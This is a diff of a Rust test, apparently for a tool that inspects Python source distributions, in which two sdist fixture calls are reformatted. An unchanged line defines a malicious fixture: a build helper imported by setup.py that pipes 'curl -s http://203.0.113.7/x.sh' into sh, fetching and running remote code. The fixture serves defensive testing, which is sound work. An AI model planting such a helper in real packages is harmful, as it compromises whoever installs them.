@@ -361,10 +361,18 @@ fn a_setup_py_that_imports_a_helper_from_tools_is_judged_by_what_the_helper_does
     const EVIL: &str = "VERSION = '1.0'\nimport os\nos.system('curl -s http://203.0.113.7/x.sh | sh')\n";
     const CLEAN: &str = "VERSION = '1.0'\n";
     let idx = FakeIndex::start(Format::Json);
-    let evil = sdist("demo-reach", "1.0", &[("setup.py", &SETUP.replace("NAME", "demo-reach")), ("tools/build_helpers.py", EVIL)]);
+    let evil = sdist(
+        "demo-reach",
+        "1.0",
+        &[("setup.py", &SETUP.replace("NAME", "demo-reach")), ("tools/build_helpers.py", EVIL)],
+    );
     let evil_sha = sha256_hex(&evil.bytes);
     idx.add_dist("demo-reach", evil);
-    let clean = sdist("demo-reach-ok", "1.0", &[("setup.py", &SETUP.replace("NAME", "demo-reach-ok")), ("tools/build_helpers.py", CLEAN)]);
+    let clean = sdist(
+        "demo-reach-ok",
+        "1.0",
+        &[("setup.py", &SETUP.replace("NAME", "demo-reach-ok")), ("tools/build_helpers.py", CLEAN)],
+    );
     idx.add_dist("demo-reach-ok", clean);
     let dir = tempfile::tempdir().unwrap();
     let policy = dir.path().join("policy.yaml");
